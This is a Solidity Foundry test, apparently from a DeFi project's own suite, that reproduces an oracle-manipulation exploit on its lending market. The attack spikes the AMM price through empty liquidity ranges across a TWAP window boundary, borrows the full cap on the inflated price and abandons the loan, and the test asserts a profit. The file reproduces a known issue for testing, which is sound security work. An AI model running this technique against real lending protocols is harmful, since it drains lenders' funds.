// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {TickMath} from "../../../src/amm/libraries/TickMath.sol";
import {ShareOracle} from "../../../src/lending/ShareOracle.sol";
import {MarketParams} from "../../../src/lending/interfaces/ILendingMarket.sol";
import {OracleMarketBase} from "../utils/OracleMarketBase.sol";
import {Math} from "@openzeppelin/contracts/utils/math/Math.sol";
import {console} from "forge-std/console.sol";

/// @notice The spike through the pool's empty ranges (issue #12, the Inverse class with a twist): beyond the LP's
/// range the pool holds no liquidity, so the price moves there for nothing. The attacker buys through the range and
/// on to the highest share price the pool allows, holds it `SPIKE_BLOCKS` blocks with no arbitrage, and sells back,
/// timed so that the spike straddles the boundary of the two 30-minute windows `borrowPrice` takes the lowest of: both
/// windows' mean ticks rise by thousands of ticks. One window later it buys the spot up to the raised mean (inside the
/// deviation band), posts shares, borrows the market's whole borrow cap on the raised `borrowPrice`, sells the spot back
/// and walks away from the loan. PnL in the loan token (mUSD units): every push and unwind, plus the borrowed amount,
/// minus the collateral left to liquidation at the fair price.
contract ThinRangeSpikeAttackTest is OracleMarketBase {
    /// @dev Four blocks (48 s) without arbitrage, 24 s in each window.
    uint256 internal constant SPIKE_BLOCKS = 4;

    struct Spike {
        uint256 fairPrice;
        uint256 spikePaid;
        uint256 spikeBack;
        uint256 borrowPrice;
        uint256 cap;
        uint256 collateral;
        uint256 borrowed;
        int256 pnl;
    }

    /// @dev The attacker's stablecoin gain since `stableBefore` plus its share gain (< 0: shares posted and lost)
    /// at the fair price.
    function _pnl(uint256 stableBefore, uint256 sharesBefore, uint256 fairPrice) internal view returns (int256) {
        int256 shareDelta = int256(cog.balanceOf(attacker)) - int256(sharesBefore);
        uint256 shareValue =
            Math.mulDiv(uint256(shareDelta >= 0 ? shareDelta : -shareDelta), fairPrice, 1e36, Math.Rounding.Ceil);
        int256 stableDelta = int256(stable.balanceOf(attacker)) - int256(stableBefore);
        return shareDelta >= 0 ? stableDelta + int256(shareValue) : stableDelta - int256(shareValue);
    }

    /// @dev The spike, straddling the boundary between the windows `borrowPrice` reads at the block it returns in
    /// (one window after the spike's middle). Returns the oracle, its market and what the spike cost.
    function _spike() internal returns (ShareOracle oracle, MarketParams memory params, Spike memory r) {
        oracle = _sameTokenOracle();
        (params, r.cap) = _openMarket(oracle, attacker);
        r.fairPrice = oracle.price();
        int24 extreme = _shareIsToken0() ? TickMath.MAX_TICK - 1 : TickMath.MIN_TICK + 1;
        (int256 paid,) = _tradeToTick(attacker, extreme);
        r.spikePaid = uint256(paid);
        _skip(SPIKE_BLOCKS * BLOCK_TIME);
        (paid,) = _tradeToTick(attacker, startTick);
        r.spikeBack = uint256(-paid);
        // The window boundary of the read falls in the spike's middle.
        _skip(WINDOW - SPIKE_BLOCKS * BLOCK_TIME / 2);
    }

    /// @dev Buys the spot up to just inside the deviation band below the raised mean (toward the lower share price).
    function _pumpSpotIntoTheBand(ShareOracle oracle) internal {
        (int24 twapTick,) = oracle.ticks();
        int24 margin = oracle.maxDeviationTicks() / 2;
        _tradeToTick(attacker, _shareIsToken0() ? twapTick - margin : twapTick + margin);
    }

    function _log(Spike memory r) internal pure {
        console.log("spike: stable paid to push through the range to the pool's edge (mUSD units)", r.spikePaid);
        console.log("spike: stable back on the unwind (mUSD units)", r.spikeBack);
        console.log("spike: borrowPrice / fair price (bps)", r.borrowPrice * 10_000 / r.fairPrice);
        console.log("spike: borrow cap (mUSD units)", r.cap);
        console.log("spike: collateral posted and left to liquidation (share units)", r.collateral);
        console.log("spike: borrowed (mUSD units)", r.borrowed);
        if (r.pnl >= 0) console.log("spike: attacker PnL (+)", uint256(r.pnl));
        else console.log("spike: attacker PnL (-)", uint256(-r.pnl));
    }

    /// @dev Open on the code before the liquidity floor: the spike raises both windows' means ~4.6x, the band check
    /// passes with the spot bought up to the raised mean, and the attacker borrows the whole cap against ~a quarter of
    /// its value in shares: +$714 (share as token0), +$711 (token1), the cap being $2,125.
    function test_attack_spikeAcrossTheWindowBoundary() public {
        uint256 stableBefore = stable.balanceOf(attacker);
        uint256 sharesBefore = cog.balanceOf(attacker);
        (ShareOracle oracle, MarketParams memory params, Spike memory r) = _spike();
        _pumpSpotIntoTheBand(oracle);
        r.borrowPrice = oracle.borrowPrice();
        // Enough collateral for the whole cap at the raised price, plus 1%.
        r.collateral = Math.mulDiv(Math.mulDiv(r.cap, 1e36, r.borrowPrice), 1.01e18, MARKET_LLTV);
        vm.startPrank(attacker);
        lending.supplyCollateral(params, r.collateral, attacker);
        lending.borrow(params, r.cap, 0, attacker, attacker);
        vm.stopPrank();
        r.borrowed = r.cap;
        _tradeToTick(attacker, startTick);
        r.pnl = _pnl(stableBefore, sharesBefore, r.fairPrice);
        _log(r);
        assertGt(r.pnl, 0, "open: the spike pays");
    }
}

contract ThinRangeSpikeAttackToken1Test is ThinRangeSpikeAttackTest {
    function _shareIsToken0() internal pure override returns (bool) {
        return false;
    }
}
